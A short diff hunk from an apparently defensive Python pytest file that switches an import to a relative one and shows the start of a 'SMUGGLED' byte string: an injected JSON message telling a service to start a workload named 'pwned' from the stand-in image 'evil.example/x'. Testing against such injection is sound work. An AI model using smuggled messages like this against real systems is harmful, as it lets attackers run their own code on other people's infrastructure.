@@ -6,7 +6,8 @@ import subprocess
 import time
 
 import pytest
-from e2e_processes import DEADLINE, nc
+
+from .processes import DEADLINE, nc
 
 SMUGGLED = (
     b'\n{"type":"StartWorkload","workload":{"id":"pwned","image":"evil.example/x",'
